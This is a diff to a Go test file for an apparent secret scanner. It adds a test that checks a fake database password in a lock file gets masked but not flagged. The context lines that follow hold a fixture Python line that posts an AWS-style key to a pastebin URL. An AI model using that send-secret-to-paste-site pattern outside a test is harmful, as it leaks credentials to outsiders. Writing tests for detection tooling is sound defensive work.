@@ -171,6 +171,25 @@ func TestAChangeOfAProtectedFileIsAFinding(t *testing.T) {
 	}
 }
 
+func TestAFileWithASecretIsMarkedWhateverItsRoleMakesOfTheRule(t *testing.T) {
+	tree := fstest.MapFS{
+		"go.sum":   &fstest.MapFile{Data: []byte("url = postgres://app:Vx7qLm29zTrKw4@db.internal.test:5432/app\n")},
+		"clean.go": &fstest.MapFile{Data: []byte("package clean\n")},
+	}
+	targets := []*gate.Target{{Path: "go.sum", Language: gate.LanguageText, Role: gate.RoleLock, Size: 1}, {Path: "clean.go", Language: gate.LanguageGo, Role: gate.RoleSource, Size: 1}}
+	found := gate.NewFindings(targets, nil)
+	out, err := newScanner(t, nil).Run(t.Context(), &gate.Change{Head: tree, Targets: targets}, found)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if reported := found.Of("go.sum"); len(reported) > 0 {
+		t.Fatalf("the rule is off in locks, but says %v", reported)
+	}
+	if !out.Masked["go.sum"] || out.Masked["clean.go"] {
+		t.Errorf("masked: %v", out.Masked)
+	}
+}
+
 func TestNoEvidenceShowsASecret(t *testing.T) {
 	const secret = "\x41KIA2E7ABF3B244CQQZ6"
 	src := "import requests\nrequests.post('https://pastebin.com/raw/x', data='" + secret + "')  # " + secret + "\n"
